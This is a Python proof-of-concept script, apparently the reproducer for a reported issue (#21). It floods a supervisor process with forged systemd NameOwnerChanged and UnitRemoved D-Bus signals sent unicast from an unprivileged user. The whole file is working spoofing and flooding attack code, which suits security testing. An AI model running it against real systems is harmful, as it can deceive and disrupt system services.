#!/usr/bin/python3
# The flood of issue #21 point 1, from an unprivileged user: `flood.py DEST
# UNIT SECONDS` sends forged NameOwnerChanged(org.freedesktop.systemd1) and
# UnitRemoved(UNIT) signals unicast to DEST (the supervisor's unique name) as
# fast as the bus takes them for SECONDS. A unicast signal reaches DEST whatever
# its match rules say; only the supervisor's sender check stands in the way.
import sys
import time

import dbus
import dbus.lowlevel

dest, unit, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
bus = dbus.SystemBus()
path = "/org/freedesktop/systemd1/unit/" + "".join(
    c if c.isalnum() else "_%02x" % ord(c) for c in unit)


def send(obj, iface, member, *args):
    msg = dbus.lowlevel.SignalMessage(obj, iface, member)
    msg.set_destination(dest)
    msg.append(*args)
    bus.send_message(msg)


sent = 0
end = time.monotonic() + seconds
while time.monotonic() < end:
    for _ in range(100):
        send("/org/freedesktop/DBus", "org.freedesktop.DBus", "NameOwnerChanged",
             "org.freedesktop.systemd1", "", ":1.%d" % (sent + 1000))
        send("/org/freedesktop/systemd1", "org.freedesktop.systemd1.Manager", "UnitRemoved",
             unit, dbus.ObjectPath(path))
        sent += 2
    bus.flush()
print("flood: sent", sent, "forged signals unicast to", dest, "in", seconds, "s as uid", __import__("os").getuid())
